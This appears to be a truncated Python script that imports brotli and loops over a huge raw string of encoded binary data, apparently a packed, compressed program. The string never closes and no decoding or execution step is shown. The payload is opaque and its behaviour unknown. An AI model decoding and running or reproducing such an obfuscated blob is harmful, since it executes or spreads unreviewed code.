import brotli
n=a=0;b=1
for c in r'''O(ydbe3/+G؍L^yHİjg?XwU-fɑ&vN(ʲ(5KVc9X9R޷8n(QxWL:iL<pغZ%(	V.ݸB;5I7T/#x4ԓף&`
mZQPDk#OLաO3@jJɎͱ	ԪƸұlguo;OEmŇŐG;hʄާQGq}v>.т%Xכx!I2őǿcT(T,@e2D](; ,4v#ܨι.'>]2kґlZAMl t@?<qo6T,ESE@$k;TZ<i1iQΏ:ڴ֘Q^7f0'ɘM!4)k4(iÇ
;4xLO;m~Joa<ۂrn[ǃ40ϔ"[EI2)7KXQlhbՋJU?v٧A$,Wc+~ѡYwʩXJ"ʾu3+=ZcFt5:wip91f] ٓK]bt^
4u68;?ι|/&(yuPC=2Lfv͇)0oAσN;@\ܶSE).;M2ϫ׻'ƎSYvC3<JݾvqnUlٮvH~:hT>բ<CKX*uf8T*KdHFXтIǙwàɌ^սbڻsfj.+[kC(gm,JOJ89}@^8lׯpAˍ.v"!LYŧd#2Cn:ˋs9=(VoFD#Ňw`ѐYs5(ͽPeի$ѯP0ר*|~}_Z
M*aϹ'x`y	'ĔLQÁ8Ln#]@4n2.V]R	RِR1ҝE͹ۿiWBickiezӪj֝5Kc٠ܞX
Vʙ*Ŀ8a!ǨTv?T\f7ȟc]'8ˍ!,1<~<@oQ֠BND"7-bnC_οUv3F:Tup̯b:*\}3f[9/>Ya?T/lcJ|ns^1}pN@yC)	E'ڀׁV}h	C)Z~4D!!ξ 1Qx<Dڭ?DֳI/Xj Lأ\ewX+Q_,%B`!w|ĴߗD|hNNzȶ"5MdŗiIטFqL@%k!(Ί~mgskPqkZDȓ XF7Vv߉5Yj(BVX6aznYCo0AL:dsl6~р̚87ƢHtt˶rTɧۚai4-*.+qӻ6Bywgb2|m''Me|J#<Ǎ؅_Wm7.%	vEqR>D*Σߋu8ݷ˗X56L#`L)͐n46VGְrj;(5FM9H^;<2*xW
ScF8w(t@UeT3ZtAX`M!R!4sì;ˌȑ]zs:E4MTӵHc|-U UP\֟
:ʰʻFm^Sj{	n:	huM3QddzQVӢ&'B|؊<8˚#̰g(^(kXC~axv+.4T}n~:\(Ý_~VEPa(=nGl;VG9zUЯdXn;8q9,&`.ujYnU{wc4ņh;~omYq\JՉҢ~X[q~b%ׯԟVVG2a_SsZ)\+u^qU'Xi>aWZ-S5"#&%-2aZ*E!ufiWj6m[_Χ^FP(a)Æ62GV~!]a3}۰Zr(GW{[HMQCkL_ݍeR'ڶƦevz$ßٖ{aa'۳.SNK+A. -߬d;|A/x9`@m{3{4@m~(<IXpqy`u\zrXqňNK޼6Her1ƚXװmJ0[s&dRh|q}K:"xVFل~9()"{JsIW&X3ȁ}&`PTfSJaYFXٽՑ;\`p*ԝЧ&j,NzAƲO*)mr,B7)v]z;/!jEcǛκg@еzϡC"pNJ߫>?W~NxZPrHDB 3%<v}	,ҷqNdlШ8LιdJQ2%p¨t'+zqJyf`@$s{vlݻЇ?^nRiǚIqA<](bbMJ@0[cqYkS1П6C`{oO
;edyeLOGy+	ܪ8wzCmw8VȻL&m_ҳ¼Mzctz1+*ȐKݳ{?Qו܄0eG7UOO%o^jI}601\lEPзP>LY͕fm-ۭ0$A}RjAjt2L.Cu:ߜNd)8v̢FʕTHpsۡo8òP]Z,`q|<0:@KʴQ_|(8ljjXҬV)݄Fie(r>%:Goc1Ǭ.AʧBy1aDd.ܽCc+)}}߯QƐIѬ`cs>էjZZ .FqFܪI	Iu#0$[yg	Ŕ)kl"ƨҶ'RA1¼F8L(W}o2PjĚ!+d݊"Tg59=)"8Mp-aqAD`gprYؿM`klډՑs9Ї?N4BPյJYŰ{dt
Z?דVH֛uթm$JC1Jv*lK*Ոna`%?/J52GNgGΊ^cW`Kģl	XYCV^6d͜'_xq{"$±ݯcN]>k@/xCɷg[xч-hqaToS3(ue%kw@["H]4ƜfĔIM|ٌݟªi7)
FW/Lӿtmvå=.׍Uڅ,13c5QwM0^j#^9_O;͞)aǚP-DohD^xh2,'jT~/fk,(ɒU
!ٹBӋ1Hmː'cԋ>|ɻRrSq"ۜŐ&6=]-1kxLxEу$uEn_8ؗL+غ=d)k_Ԋ9EO"kNCb*[S)T̠Z:%gTN'Nv(rh jůLč-8X>?<-^Q1GEϚm͹jzH1\"AYt"[CsڳJߠQjy34:GT1E͞}VO]ɴRe[cmq%7ܛ%M4HB]bFܒQWJE<܊Jʻiz$C߿pSə$&+@j~L%-&[³F7<N"i(^WusߔЫMqv_3V7χDsó
ibuҜ3spr;ȱ:b *5JkWL߽pV'4Z<9~B"G};kh\`|6La9+"ƥj|[Zb[oF*6XD,*L~ڈт|̭QΎ?*@ňrROh4TJ658 1tI^m:|shX6ӰYC$(W:t_.>nڲš+І<U4 3~P~g9Qx3#\dЄt<Sd'E$ΩL~ ;0Cm$ܫɌPC|;g+!ɦN*ݑHnP^ƤM۠׳U'ɮ݆mБ0۩LK:S-vCx׃b6;ʧLQF%IWR`'?~ivAŎ+[{͸O&6S{zASE.hK;{-&h%}кf&(b2$RqTg Sl|Ҙ%-0N6ق8@?dyhxJuc\ǝnQaN96P[МxȼigZ0$q>Ba[d!h&$h_j)ֵnߴFы&ti*Dn#{-^5kʳ=^˷ü&Nɂ>!eic ~?o4͌|Sc1EmVz@_=ftAȏi[4ăy~K^yg	ܓFL6V78E9neGct)!+(fR`ݣ"(kn6qߴ9s}V3ƑDQ*>M(ٹ܌Tu$PoI]i:ɞNPtOe͉c=Pϰǻ:_Fl;AY<G]&tݛi/=l~L&Dz6OՓΟ tǊzwp׌`xʺYȖZkd !#əϛ̆fۄcdo~fr!pBN4'qi]ȏDҁxݥ]҈tƋc7)qZ$uYc8X2bE[P)io:[dթƦffoڐĜD&s"ycx4܎EёA>\3ŠB_ҐcHWig/>3u6ھЈ}\+a
Hɬ+z{b2,] <.J0B?̲{`a+Had}}HO%c%V/;~E=GE(ҋk&ƖSEDA}S״yO"pʋ*"JJ~hުs3t+ݳoczT\l77ŎIϹD/|*#AĻ~}P<*g8,`J99c|z~K&I12[i2F}_zjXR~7JiDɨ~ҨVȲ_)n=oE,|0,ߛ{k|;)ɥ`Ƀn>rO0ˋ\ 2˓fIxx^ߜs%HN;ӲhE&ޚ_C+
R(ߧ%Z~*f#_a_uORs:zlҰ&֫wOWCDOԤkɢgE(̦	^N	]51,`H;qXfah9к2ܐǣD::f^U}ێ&Cc19s rtڱslF|MM&ή7mOЫZ-wFݱ"!p5YDEs*aš]PIil19ȄЭ1#81mJOjVX74 +:ܿ$s9b^rkc?o=`	ZS#`f}uF"%ћ_!T
NoPэJ%.zh3A2:f0P͒X`MSo%eAn5JwĞΖ^*f2wմԿ?H*M:4i\|3~+Y̒ȩf	{v!	֓$zTUi%nFK;%UnCYNQ}u)`_5ҨwL6{4"%5(3Lg:w1*^Odѫn+f59؞6-A72Ԃtj2[dՄŭÆSdm`MHf^n3SYf'?YL\;4}^Ы^2M?+^)r]
B],ɛ>.kx8i~]F"ɭlӀmeWѳ^dOʽ,AC%RB\xbFC̚bOݻj~-Dbtuģ'Ö/vN܁JhU{/?:J-\z8x6^N=t7CKIgӾnR8Kl
oVACȆh9x5Ky,Ј!6Az0ĥwn](;Gyثܜc#~cE8n:ԝ=ֈ1')h!eL}vrjݰ6	C51n iN}@{Q^5WKBdWy	olޙ<@XpKxb?8c%"-9Y۪tQjwܾb-bϦ5X_(~MFauɧȝN;!DG}8^gz<]5gƱCЁגU6̉.9n¬fHLU<ͫȜ33yTGD|sH>7s]H$x<
9rxg@TC3	Gx\Y7}H$KO=-L`Uټ}؟ՁHϚ $Hu@y"`_<بxd\%yiOmT؜;ō[iil{P&|jc̉Jo*Yic;HRןN/FPHpbd|{҄ˌyuUH˦j̢ϧ!X)R7/WNZ@6wqǛ
[qrWfڱx,2՗}\>a%b;E];qփ>Ţ$qߔW*>>!Mքv5!N~nΞ40uZIP&ٗ0jg
7EѡHSP>oې5C$~n|)?8o?7T#8ݞ{w $cʹ{Wh-Cg;?vJ**=V}d0;<Ŭ(*}RܪM>xqK=8ÂfE&Il[Eϣì3iJY^,mK!ۣ_%DٰVapǊzaLg$P<kwfrCfbOk0mGr$2ˬr!X+8]e^Ͳrj`ΒV&=sM!zG'WV	dIrʲȤRJ`_]L\1]vQRnD|"ZSTswFrbE`qBqeiOԠ})MVd``ҪA.'/95|Ҝn]qBį0n4\#%m",#1;1dI]<MQ%ٚR78n@Ekm^3et5Lm?f05h(hRjp67סJͬsy'%#۹9eAU8/i))5D>ןp #p^[;sP3&cM8?ڢڠaJk4ӕ׶t\wΓϽ_G7LS`.מ+k2ʎWn/
܎(А7= Cʃ}bsWUn^ۃ3yV˜T+DŔ06GWjc@NZܠ)Ҥ:-[`dG> y7auh;/3foˀ
tj'ҧjqhjx++4!8xnL2ҿ?Hmۿ(X51,҃!bFm_SbK?? 2qCǳxoץn)܄
6YTz`",sQZ(;Da.ͣ)}I)qωƾH2sf4`:Mx7[.viRrjvz=H;D.9%{k&dNv
30M #ѡIrz!ͼ]x^B6/nřmal:hSɅ[JJ^Z`M+V@ˉD6{=$HXґTj}ufSfpԐ=Oz$OHT߱θ~@_8LǇSw|KvVi2Ή{yQ~H{e<0_]+[HnBC5ɿ\/*:t<GIly?\tNdMKKcQVU~{w#jctwpf|&͔ٶzaŷfzkt%x]o8ƵYT=чr~Lzp_FyR7JHXu3N=Ʒ$ HZZZXdz"WrS|e6Wj(^<1ߢA?5l=N$]Hvybl!u~ЮBIw+o\{X>]\$-2;">7dY7ANx%0@oLU	U(QoISp_yŗlM	3,L]Tsa	b"66paͽ֯2{b97[߳4(Sb2۷*%7͊
` Kݝ:*,~o,Ւ-8]\U6+F+-XXPJr)޽zlH[Qu'_>%Ϋ(}їdYҮǵAota9_u3@N؆%#vF\q|6!]r[m(vUՉtj79J1Z+~llZxv}J(i3;p'zt>aZYveTͯdTj#:%~Aiג(>+u*ŚZR.ϱwZyYaDc$nST6]CK/(_1x0l?RI+hWD=̻L']ąƙ=TYN`EO@bm({3y\_T\|2I(?y5$2{vW/j5LH]lчC#Ĝy_?<Ź0O#:wҷC3?φ3E-ӂ&(#))Y/igw9^fB')X_!z2Y͠A=YӿǕh{O]HtB,<u qt]c'Qp#12efoyn#fEa0FB)-ٞ65*؀6
1mdD10/9֒ՁMpuE>RB>y&gXhʋ9aBN,YHHSw|	jrxQ֧=Z +̧a<zsĿ5NltLP$=jId^?КTSl)pɞSqы>a//7Qy>b.w.d5c=+׎7
sч+;u^٥GL{ҥGn|Y)zmr=0PP`vN;qk؟`%XY0)pL`G/Ȱvw1}z{6b/foOEE}1KLU2LuԟUFߨI'R6D*z@Zg˼@EUWd7,ZGڊG۳QAHȆ2ŭg͗c:S7 с\uѲɸI5L	W%*n
YR+?sAݕZ\7ЉDE[?t_Ǽfd 1)]'Ý
ͫ̠ ?q@2v+ߩґ-tM
K<cilYbӪ&V׼ejy47zu<FQ7=bɴ՜Up~P$T1Ƶ<i՝ɰo^\n`3c+߭ YgZhـEj-yQ3~0U)B&%ɏnsz`on?WTtzel՘b'Lƍ1{nNd]G#՚_XVBN&N-8XC7/	6@^=HJLh6I*Vzv #ߥN\F&?;2.]=~KUIdiȧ?P@lռHj
L-_Y08gZQgK%fVկIrrsmMP\mɪ#Xʱ{kx|և*hk·HZ]ǺٵУ[pҸEJ~.NL)?j֩ڤQyLW5|6k3hq~-/1CH>'uhiMX>^`lrW¶EoUrWTE\V}J%ȂBT(&.oϭIt-i3CϼEаaR;S5zєMB]YK\ajOȞiIod<wd{59G.w!|C͵k|{q8bJ#;$CȄWGz\:$3ΥK	(|6!^(q>?c^]K+_:myuYd(zaV97:O*7/^3D0Nk3qT{s4]g('0?ANsn%[6ҺjBvÆD6muuR(z$J߶~AA0=#

Lߓ^ii6lw7aDnF<PTTt[L\N;L!sA3V-J<ZV$9gofm݄xc#y1yjSf?"1MC=iCZ7FuߙÖ'icXRs)Р5lztn׵fB:^.iV>Ʊ`ʾf!&VeL;McF\*Kز|~0wjjdI1`ELyOە4rx9t7W(a d׭t'ft(Z;ÎxͪZJ1#Ό8H}"ĜoĐH̖%%żU&)ʍ[>2sҶ~l{cђ 9m-s7QGy\fZ3X10jj(Cm{Gok@irVK)Jg=9~ϩKԈN*@NǜB7+^4#nzjviɼBsaT0-P mġ8^fc4M><ËW,F`@nrB-B@}ľ`f"<;AS`n̕ѭ&?8JlŞh KT{|.nj1Hh{# U?C 	:ʚXF/}ѩڋ{M?fmkRZkU[~ SͿߺ.ՙoaЂ>0ޛ:wp{)lwY|`!'\A;#ȋVNdѹg_ʱAг'`ȎSgwun)p"9p$@
zbfy'Ͻ03rN&'>@۔_āve*)ߚȍyIxhK,.NϯvNNxRۮz06pΠ˚޶%_g&x
^-߬eɀn	L@]=sF`)YdPͿls*ПAF0 pr: jm$MYuvknSѻxH$4Zݯ~EWC%*2֡TbSh@ۮJ,}c|`Ĝ! e7B]F6ަj6pRIf,gܞl)eHҹ!^A*ܯIW	3Hݩ+_=W+M9~{ڇͥ,dףr> <~D<~pgld+a}ɪ^4ѭ#)הr:*3%ƹـTHQty3$S0"=_ɞ^~@ڒΖ/kgG1B\SE ln]ZXLrt ˥]˅v\^0QĩLۑ.A|ѻɭw:߀;2ļۀ+˱ۿBٱiH5oѲvS:"|Xt!{`
#WJmjM%Ѭmyo2%T9$%u^z[S
&ʕjzQͭܪ=>҆8w4ǨD^eEĪmiP-[6ގ٬Z,ëɐ&ԅ޵ĥ?08]u-اZ{43s|ā؀?28_z[<ܠ5h7f,
¦׽#Rox6eA Qݶؗp-TĮ,2*$z(MP$բ0'po3mߝqNFeȑ
44lz/CUx+D<{Ɉ͟I<5KLަ-<j</֕AWOPQ!_lN@!!ȉdgMgL1j>Yۢ04G:ӣȣCy[p2<tDօLN>]@A&@s8>(}XQ52E73Qa	-TLυ˲WsZߏ|q*Q-޻ktX>4V3ӄ~F{\X+EPjy"ŧ3,L8LG@̆Jtvns;SRS+aTTr0F)?]v(QTf<Ԑw=+S$9U(ذ)ΎPCFO*7Qx5 ^0(
`͏m\ϭI#aFD{[N<VF:KftxRmErKvYgN U RzdLvfV&ƆuqF-lִik
`Pf֣dOȡN0UFCdܠE9P|i`޷	Isg%'atf?Fo9șd֡}݀8i	mφ:uL'c"Qm1
neG0_ԧtKFǘ(oX/*47s[k|`cI|VH%>[+mgvͪŊJCϰ72HPlß_k"2o,̺tEޓ<*uTÏM$CS-}hph
}Qr]?2>7e[9S")CKI]YL=1/vC¥oHDXU	{)4css)@,%X09wp9j{څ|GkS'Sw;/C'LfEM53C.=L["M)Nz|`đ*QӠrqY*%83*=]]Z`g.*~d_d]oupbit,؊;)!g{9wE[ÝԴH9pԐb~9)_qHU}16gq¥A?)w@ٰ#%*D0Q_b^!XxUDHl^U ~Ŋ}pۀ27)ސ[:'^&=hik="՜~l}>?c9}'-?ғ<؆a6%R=	uF		W[*C!w4>),(2Vֹ^I\O48h=2ajޓϚ%ӒGxeh1F4@4-#*fWzްt`:ñe*JٱL_!v̷UHN>Ʈ~^RъU
e}*4)4@cUHPq!޺ȹMDϒ5V]Θ	oS{r9gaޜnԅ~s6^Qqeܘ%	Y4yNYUߺҺӿxc5/f5df>>ޥ2VOҤ9/5$ȅUE4sH[.YK'%Q{$ʹlA\řj.Z+7MO<E`uC>(Ar*P0+7I߄(U<ÉQ|6~cvVI|KmۇA(W$,uM%Ant0quDõ)VKCbd#7F.(`\NҼYWHEݵg+H>G|v_mհǿjgzU9H%USa"lCRO~f1K]*ЌCSިԜԟofdY|u5ARV\5W	KǤ?q4Ƈ͙BoȲ01>VBͱLGB?MHmƷy<.9s{m@;JվArrܟ\ϻی+Dy3Bc]ЯdȰǋP_.֡D3hʛnɈBؑLi5ŵ1eaŔRǠuͶ"VɆ7J(pɖ;68mb~C[@l.lhYѸZK@ #N ͻe_vuPQT5#~a(zQfš>itkf&cEΟ&+&g֚Z?AJ3*yg{]gL"θ߯!յiG]uԓٍ'?y&C7i_5:xmoR0aP0ppXDP>"fd1΢K[L``ݢl$S"Ge4k0smfUuE[2ϸ9jӸbGޒv|HS՗w1fJ8ŶUAށӟ|rhC2;,U,l
ݦ8U@fY4@+3,f@޽T\OѦ7HO
J.j0"/gfϙs){>N)gKMz.ȞSEKcH̃ǁ<@b;ͳ.Osc\qURXȁ|-Ƭߏ}݊Fjd8EϠߎ#'5SVž}ǵ̘A{kҡi/0ȦuVduc1I3ձ=K[ުJ8Ș:KnHb1ԅASE+ڼHR/s̃tu+Wsׅ``qek6;8|QǮL+$f۾2[&%3P٦ŌjUCc6hفFjq-$'ʈ,p++7d7uJvװR{VU-?x
8yz5qnҵmNAAFoPmDׂiuHжK"U4zɇPs ΔXGs%'בC3iE1#eԢ~O[fy@K5_w$7uZ{3Y.6T(%kS]0pdRfEл,I~IHwLT,'="*Tj`,Z1R	}Z8y,qܦCZջ˺]aYEGX(U%fOq!4!rD)MڲaoZ}SIPJBwrׁsB<VkLO_QY\Xt&	.;^0_;8')T1@k_If6!?)ImS/h-/v*߱M9P[/o]T́H6Tl<%nnDjH-]u2Nv>S˵PDGU"vk2 HZdSؽ9ےf²Ω2BՍ=K\OIXbO(Ո&Ps~_̜.̘ӏ7iz(M'E>uLU5!)M|*|ts1C@2@+.8VۻHwNuU1[ORd\\S	6DĖl6D/,ݭ?зo=ͺ@!8"Y;SD'ĢiF^V_iR{STcYÚlɒa
!~x6|QxHʩRlطd#3\%ԸfEŝq1ъVʇ!=|"eX!ҰZց}{}[)?B+YC?{=6Z3k0*ҁsʂl81΁׷J!8}Fbz'm;hK0ӄѫ}#+t2~M-ͨ%;:xsM0i	ا?V^Q''
p<\mvzm5QV`V2N0)2^ ߰"9g"2Ž.ޫiD/=@>čL`ٜci#|+̏͇S۶7!9? ݺ\I2{YR%wM<EPf;0
ʁ<}~n^AbN|]Q$8%עϣ]Yh1N#h2Xva[cY4O6@ipuSwhd/AA.IJE2ǁ\DDjˋVʏdOI1A8fig=#Aoؘ̡֋95ܮUC%s|Æl_9zN{g[!R4NG\?y[:8 sVE~Ö;`кy.Z1J(82^=511;!	7o.bVܔ/~I(m@&/Kߟ3˹oMJй{EoW0F*-ϘО Vn1j0r)	\@FRS?!&3|(mOʍ}ݖY>ġlrChȋGcO+\  Vzl[iB;,(]n1kc]._y;,/ט@_W~KFH%dwB*)8Pił=Hֽd9+Psg#Ih.[if#lA>Da~׿Aay3ՔL܌}w&z8k<H6ȢZ(t'`ՇȮnG0kjIFؕ'E~Y8lMScq@o *W>T)`Tѫ݈\y.{?Qu͐~VkqVõ}AýXY=`̟8=-h܉3x&\
٦˪/y5y)AqW%ٻA6^jM̑X>VDyovw~-ˈIkTf^:/H{a͠S(Êч+,طcTfW\@<Cg7I:u ,{y`G:K$%7+;Mɘ.{ܾɣx=S`Xi	ue٣J/7l#]aDDPNO1v*-b\VbIEYT/*dXXuG:ygxku!?ǓǇl6J>{uvύɡȾ|EBE$Ks	\/H:fY_o{ry	E6}u96(bjyή/MaπF
C`Y$.ӜatS0~b1:\/y
Wpn#;ݒ^@|&`/i>S.CHH 	bɣv5uɩ`ڀ/gEH
D&&o4|>@'uMNkīڅMkB7q`C/4))a>ݞ-M	ռTh(܌0ځ*l^,=C2Dm
uHÏrzpKsX }ƬϤkvAŉWW=( +z-"'j)eQUڜѩ8* "]UVv$UQ3ANѽ38VU&4Nڰ;"+Wq5? "RqM:ѻa׉InVnċVaѰؑ*jm";Q˧ ؤsvаУU.^R,(_db|m>*ՕY@ar>X#qyȰwb׋mN؍|<ZXqNɱc?ęhԼIWݳ$"a]^{wi|?pCH߃=0+Ro(=ch?l 6Kϛ!;Gg*2=jfZ?_&z<XĒBRyE.l- A;3#sg&o}up~G/PCgAxn{	);Pzv*y,čoNŷO&:5Jry#AF\VApۚISU"poiv:GYl3Vݸ|dΦB)+֘!$wQL1CɰL7ܒI SpސD2n}a7Ԏk,Q$NjUGJOiߧfkPaR_{¼).ՠ0J).
.1ֈB=_Ep}u2j݃J=NJ;#B7CE,D-mB4Y0Nk4G_h.ޡXM
rr@zs}$tF
9Ni҅Y2o;y-AT>ΒФE̝]b(NDsC|uł_sΡ0jG0#HlkYxQ@\ݖ*ڰsɹPǛ9օ+s=ғnZQ/"]ܥUBrՑr	x!dAt۟}ێk{RD0ݥ.@$CR?ʶ(}6&|TbHA]<CR,
azŔ{Y9^+nsR"1`#%m ~9{4՚Pι3Zxdjx̣ӱ"ܦۇBG${ہ\W߉VŶΖ.#))uxǀڧmmetqҬbwOSOňǮqVh@%ó(?#ST(3cL0"0Փbcn@6gi!E9wT\wyKa`;RNCV̍bBj
eۍ5ϧ*7<ōR48J-ʹ{8z.baa\vXhsjE1o7<{2_շOX޳^wseȁ0HLλɴQŹ/P`ֈ> f0ΏSQ:hE-PaGVUTƊNWݺqoa1[vTFʨDVi[H`1فT!hPP'qM.TW" /$+{[[@HƑ]pº35bT~UjɋUOߐ^%n!7,/eHZWV]Ctή/qoLu4ͥn(%&ϗC9+ʦy
C%-K7/]&\˪_ERB4m<{!٥Ge]LӁDi@sV֎ؤRt,HUjwx-(]ad,٧Tɨ`ˑ:BF'Jcٕ2cx*q҉sٍ
=JŁַboZW_I KֺK M?MęFi<jXþ#xnݧ+Rvz$|)ɖx*߇̣;g]4ƎXqp!BYmYoBXQ7աա3*ۘU5\P=[,M5l"2,;&q[n׍m]͹c4lc͆id3"
~u*UֆDi2oJ]f?<ƹ5B4Mv+<h!
B-c?f+om2Hdl3k{޳kӟҗ"u@̣QĖYլu~M-	<#Ђ
qk5"*y	N%K	ڗE
^×amef`?څ1xN%reٛ>ZwcQڻž9J@jt8+Ev7ˌqd*,|u;~q}Qǅ_Y dBiZEor59n|0Okkf)SGۃX8˟Ԫd}>42	FoW:kə&+/&SӐ5jκĜٖȭr*w?=$mF
7a.2F@˧HE$Qqۚ	MXo-bW?`k8ֽ f$
@)^cTݩ]b݃g&nQb2BN,sA,̽˦UA+҅&^PKόش"xv.iÐ
Uę٠AІ*;}X%C%Gq*`EYrȎ}-Dl}^Ƙn"ݫ/X	[%+گ*x0QBR;V~!xRW(}Ѐ=7d}k6ʔ<$iorYڿ|%oi-.;xsϨx%oEc%LE߬:FtpY+!ܪ<%G1*Nzc0Gmګ%~Ԏ7"¢4lda(|	zf&!@RXHYTi($,b'ח)f+?peAos	bp'gƬ0zo]wxaW>[CzvT_L!
G'zx[YO{alQZTj0T.Z:jx\CF>צA/ ܘ̹`8C?|/F
.kWw_v}yj\=`ZKZRl&K`Fty]Ac,AZjavS(@bO~MYAȣuد"t1)$et¯ b=8XSo\Aي[Rl.ڧg:NYKbhAbS6	Շ^s'tKw,_:ѡKD(݅x*>vYAʅmGC\o;SboDB.2}>?OZ%Z#oL7-DJ#5&]\sYLyѭFD۶K*H:@Ӓ#+Xrw[d
OUYK8Pji~@	$QIP^Gޮؒv-)\JC' 2O.zԹi*EZG7b
Q̓.(:՗TSV_~ZfXjT1ߗ^AOsy,:6u;lq[1*(FKPN߬wbLl'0q"y8SD]j?ϥJ#$8?Õ|8>}Ym0m^qܥ%o EV4tȗN|'CCH>J(֒SWyFr|eͩD˯W\ROnw8%l
6Ѓ|CZ|~jՍ~#R	a9w`vWCy߅t¬JQ[X|iۋ&:@@ "`#NlLAK^vP-8	Q14<[[[z41ɸ=bIw2	
EՅd
zR[%[F9G;ԯG1FVTՋw\e-)v;"_BO:t7qx`{VǐRjق=-j1מ.ų1޵>a=oaZ[`o)tn7OCl֝&:/I##o֌C]Iu|spJB5oxbz'v*> |SX`Aׅ˳Jd(Ȅt2XҳW>h;SS?	]nAM;e2Yn(yYL"*,QMg8LJ	ՂÐ̠w5z9ݽXNn%d
}1]6]D#׻V;+z 4e!}ERº;Vͨh°jy
%WDFu{;W?A)&TYgFrPӔyH=2ӫ`Sg:W]|nteQs3@)۽0ʉy*q+JDÝz:6|L;5@Æ>9TKʰT.s%AGҟf-Jl8G;ˢq+úN^ykęACIΆgI(6̿Z,v0_xNqs=7Y
Ȓ_?e4M&p@tz5\{jgMsJtxǃ7ƲR];}zj|Z1b#[|^QE;{J9!VP/&(1SIGB]%r21pB/O0?'>;{)[ףشTYвtnvȣL].UʿѓІ.lzGSPj0;N(Ѓ2/Ώn]
θweۯO	Cέ΀=CFO=E[+>SOrYC9A	%ŷ>͎5PY^DϕU{~bk$uOd5&+}޿iyBϫO0@,_3M6)=Q4&-t̄\vnR]NXއq` >?xGG/4{ڤ7Q-J<!xIj}[.D^1q@5Φ]|@7PI(gk~7C	D=@lk ,[ơZj'aL$Muؖ5nEoN& 	zfq.
`>%ݑKBǩ/5jBtTFGr.h{%x!͝Ywtw\2T,SgH݀}K,̷iLiF"Vo1v%b,A/<k$}W214w zs9Hiֆ@fEBeػx&x&6$=^W+ֳ}Щ$xU(dU`5h9mxw|Ox%XO_i-_@5-\>pWĸ>ǁmm&ŒV^tCs6LBdHMAGP9gamXգL{.pTw͡(LP(GWk>3ЉQŪFH-}*ȟ;~m˙ڿe5͟,<uj8]8r%ۗrYdbfxj].d.BW]MnƦV~k#P>$ՈW_-SdЕ$[v7B=Svh-ө1rL-Ȥ[ùܹEf*ʃi:uKutLHȠVyj@#gA'>fV;@PtPƍ+Rqz|A*vNF$x"m9~C,6t{׺,NH~5%y5|`PE߰^^Wӝu]<=Yvvnz~oػv"$^ݗoYƫ\Y{qցWOǕ
.X|xB<0$Q
md.@bWQƭoZ<bQ4Zuh[h}IhwaQۙuVzhZ1bҢ;c5eEu(OB=Be
4#7A8pDA_Y.0,$ͰJPk:J:v_\w(3%"{liKmD~vĊI)Q\(-K]eA+ўnϻ=e*C5kmت*zg"D{hxֺ@:n($#3E4dq	)zl>]-^r!Yjm`,նhcJEwʌlJlO'~s%. >қpL	PZj&س8 !ߔi&}+r
{9{#~ď!$ӿ*ߝ*ΒǱat9b"#r-KZ%1WlS9bg}?j71Dt=:y̷^;V]/3"OЇ>a˟|.ǑY`?IK`ݔ5$#=obO$(RS@0+/+!:VYҺc	h0j*6PS4Rհ0ysA2Ǹ})GIY
Go~IZzKذJsۯ+s?^#yݱBT"?jܷͨ-=͡|߬GցLbZq߂oo.kk6v"ȞU_J~G"O){Ql6!'#?QH2-LU3YGe_8PNʟ=iV{5ѩu*,5Z߲3ZנMLƑ|$rU	qUo
ґd
K(yϲn-:vZSb1+2yyYqXbsr&Pk԰X}0N`H'^U{@t@n"X-2&٢ȩsH(1ƛK%4} "ƛ~//BfutV׋=e$_˄"1fJQ:G.@'Ҥ]:#kWPgg6;f"*yTzFWG8w|.wM6kr8,?jHN,|#N7.PMt^ahIZss5%LORW|X%Pܿ?RD\\uekcß
޼sTSwqLQph}{RW+Q7+Ǫs"o5Y$g-ߟNRlߵs̽b2'Fxi6d8kK+'MW^\+јKƍLϴهoޫS*Hs̰Wz|ݓc{Ś`Ԏb]]̥pA)cpMҿNA0ҽS^Ŋ}P$4VɊ{o tCː\|q׃+iZijIxʫh1750Ѣ@^"EQB,@R:v[r5%m܄`yni*ӵA\f%ՂP{j+͘U9x
uM<42rޒҒH%KBs-/,/19]T|fYyY,Ri [ԿƕrRǎ!%١Pح#WrrgDZ͋&O2ߛ[<3@)j4,2׮ǜLܧf4=;dYzʨ;cj>,IVڲ $'310c9Y	ntA[bQüIһ@OU?@}F|$4/bssSq14UA.]u(7x^bY7Cóɜ4σŪwO2S4rW\>)@XWHx-[>keհ:<3fp7r/Qк]G?'(caR`A*:Ol@:θ+֌CMĮY^1ةb3%!WrMG=y]l@+ԗDvɬjĝ.|3al_x8M`ځ7FhHHsn_ΰ`[]Hx;\m^~>&ֹIHľAY##Ge|VEɃK$>*DyK8F<T,5_Ά
_uã'c)	CHbI _=Sjߘs@K4޷\R$If Ŀ)eѨ%ԲRٸ%eeӤljJ"~fWVmi p?%4\,*DР1tjX[%حP+KOcp6}A8j}bP$kӘ?.$&JG۵O<pSӲ|s4q^82Hg
x[yXhzOƓ8YϿXI0<uNvߟ:7Ɓ@*qϛӪ>09pم*ά LNtrƉUrN]	%Z]i#AR2H;vÌg СOؕFsz/"#o#@yeH@Cq$i)oX^/s
?\.Ę{K/­Fy[@#Eu#OuʕAwg>k7RK8i<ѮbjZM\-š^onH	cf_LEǕgF?JJf&BӟsBAF
Ņ9kĘ¹C(~bn";#I\E#OsB1R׻$Qd%2I[xT/`Z$_kbdkp_cgP؉a|1Ӱ^طBnLQCOv8ݼ.҅6-Z7 Lp>/N)z5"VH=6ƷQ2xh}ʰu5S|]ˤ#4A#TTXבG3LS-T-UQi4FKՈ<'ſ*0WB/ʧ` yݛ6oiRP8gytRՖTgjH3vB-^C,JxzӜhKp+ѻ$fea֕n2<Ɠl$Mh>٣DٟϽ}f)o2͉ʔ--1uʐ{=	R_YP&s$--m?ݧ˝5moyՀrAESEӋ<bmTL;RDĝ@%)x
H(q9v3%ȕ0*̯҅د¾F.ϤF-;I{pA8ҹ<	5:99yhǀlk ez٭~uZ-7@]J7*99wXȹ^pdd&F@zf`5R,̃_ş1`'/bt8Ʋ-E8tw/$P>gOЙ9"oW[Ϛg`|?[m tlb AM!(rOaY fê?r1ө:ems,cz!zqJTRgWR&qi[GhLȌ2xU̺5ø|"*)E/ vJ0ϞǷϙe4c]ޔQr6-v(SAŶBkKZإՙ`o#X7eT3R>]oJ ݞWcnMd#FGTBkԠdro9T3T3z?iHяDCIvW@;t*+?HDGmYtLYXDFŶ{K)=ND9ئ49[;]yh֪(3PxFmѥѳ~KTN3)O#Jο[2aэy9faKAjnќn]5ǇQ,Bu=YmCR~7$$@	T2"ۃ.Rۑ'&`;l=
qzmɓi.OiQ
